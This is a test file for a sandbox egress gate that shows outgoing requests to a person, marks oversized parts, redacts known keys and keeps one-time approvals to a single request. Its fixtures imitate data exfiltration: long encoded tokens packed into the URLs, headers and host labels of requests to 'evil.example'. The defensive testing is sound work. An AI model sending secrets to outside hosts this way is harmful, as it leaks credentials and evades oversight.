/** How much leaves, and under which names: a person sees it before, and the log has it after. */
import { expect, test } from 'vitest'
import type { EgressRequest } from '../../src/sandbox/contract/egress.ts'
import { createTestGate, type TestGateOptions } from '../support/gate.ts'

const LONG = 'QUJD'.repeat(1575)

async function ask(request: Partial<EgressRequest>, options: Partial<TestGateOptions> = {}) {
  const sent: string[] = []
  const { gate, asked, log } = createTestGate({
    fetch: (input) => Promise.resolve(new Response(String(sent.push(new Request(input).url)))),
    answer: () => ({ behavior: 'deny' }),
    ...options,
  })
  const outcome = await gate.request(
    {
      url: 'https://evil.example/',
      method: 'GET',
      headers: [],
      followRedirects: false,
      initiator: { execId: 'e', command: 'node evil.js', operation: 'o', run: 'r' },
      ...request,
    },
    new AbortController().signal,
  )
  return { outcome, sent, question: asked[0], logged: log[0] }
}

test('a workspace under the name of a key is seen, with its size', async () => {
  const { question, logged } = await ask({
    url: `https://evil.example/?token=${LONG}`,
    headers: [['X-Secret', LONG]],
  })
  const begun = `${LONG.slice(0, 40)}… (6,300 characters)`
  expect(question).toMatchObject({
    url: `https://evil.example/?token=${begun}`,
    headers: [`X-Secret: ${begun}`],
    sizes: { address: 6331, headers: 6312, body: 0 },
    large: [
      { part: 'address', name: '', chars: 6308 },
      { part: 'header', name: 'X-Secret', chars: 6300 },
    ],
  })
  expect(logged).toMatchObject({
    url: 'https://evil.example/?token=(hidden, 6,300 characters)',
    bytes: 12643,
  })
})

test.each<[string, Partial<EgressRequest>, string]>([
  ['a segment of the path', { url: `https://evil.example/a/${LONG}` }, 'address'],
  ['many segments', { url: `https://evil.example/${'a/'.repeat(150)}` }, 'address'],
  ['many small parameters', { url: `https://evil.example/?${'a=bcd&'.repeat(50)}` }, 'address'],
  ['the name of a parameter', { url: `https://evil.example/?${LONG}=1` }, 'address'],
  ['labels of the host', { url: `https://${'a'.repeat(60)}.${'b'.repeat(60)}.evil.example/` }, 'host'],
  ['a harmless header', { headers: [['User-Agent', LONG]] }, 'header'],
  [
    'many small headers',
    { headers: Array.from({ length: 50 }, (_, at) => [`X-${at}`, 'abcdefgh'] as const) },
    'headers',
  ],
  ['the name of a header', { headers: [['x'.repeat(500), 'y']] }, 'headers'],
])('%s is marked', async (_, request, part) => {
  const { question, logged } = await ask(request)
  expect(question?.large.map((large) => large.part)).toEqual([part])
  expect(question?.sizes.body).toBe(0)
  expect(logged?.bytes).toBeGreaterThan(140)
  expect(logged?.url.length).toBeLessThan(1_100)
})

test('an ordinary request is not marked', async () => {
  const { question } = await ask({
    url: 'https://api.example/repos/owner/name/issues?state=open&per_page=100',
    headers: [
      ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
      ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/141 Safari/537.36'],
      ['Authorization', `Bearer ${'k'.repeat(93)}`],
    ],
  })
  expect(question).toMatchObject({
    large: [],
    headers: [expect.anything(), expect.anything(), 'Authorization: (hidden, 100 characters)'],
  })
})

test('a known key is shown to nobody, under whatever name, encoded or not; what stands beside it is', async () => {
  const key = 'the/known key'
  const redact = (text: string) => text.replaceAll(key, '[REDACTED]')
  const { question, logged } = await ask(
    {
      url: `https://a.example/${encodeURIComponent(key)}?q=${encodeURIComponent(key)}my+source`,
      headers: [['X-Note', `${key} and my source`]],
    },
    { redact },
  )
  const said = JSON.stringify([question, logged])
  expect(said).not.toMatch(/the.{1,3}known/)
  expect(question).toMatchObject({
    url: 'https://a.example/[REDACTED] (17 characters)?q=[REDACTED]my source (26 characters)',
    headers: ['X-Note: [REDACTED] and my source (27 characters)'],
  })
})

test('an address that was allowed as part of a command goes without long headers only', async () => {
  const seen = () => true
  expect((await ask({ headers: [['Accept', 'text/plain']] }, { seen })).question).toBeUndefined()
  expect((await ask({ headers: [['Accept', LONG]] }, { seen })).question).toBeDefined()
  const many = Array.from({ length: 90 }, () => ['Range', 'bytes=0-99999999'] as const)
  expect((await ask({ headers: many }, { seen })).question).toBeDefined()
})

test('what cannot be seen is not sent: a fragment, a user’s name, a long method', async () => {
  const fragment = await ask(
    { url: `https://evil.example/#${LONG}` },
    { answer: () => ({ behavior: 'allow', scope: 'once' }) },
  )
  expect(fragment).toMatchObject({ sent: ['https://evil.example/'], question: { large: [] } })
  for (const request of [{ url: `https://${LONG}@evil.example/` }, { method: 'A'.repeat(33) }])
    expect(await ask(request)).toMatchObject({ outcome: { type: 'failed' }, sent: [], question: undefined })
})

test('a yes to what changes something is for that request, not for others like it', async () => {
  const { gate, asked } = createTestGate({
    fetch: () => Promise.resolve(new Response('')),
    answer: () => ({ behavior: 'allow', scope: 'once' }),
  })
  const initiator = { execId: 'e', command: 'npm publish', operation: 'o', run: 'r' }
  for (const body of ['one', 'two', 'two'])
    await gate.request(
      {
        url: 'https://registry.example/x',
        method: 'PUT',
        headers: [],
        body: new TextEncoder().encode(body),
        followRedirects: false,
        initiator,
      },
      new AbortController().signal,
    )
  expect(asked.map(({ preview }) => preview)).toEqual(['one', 'two', 'two'])
})
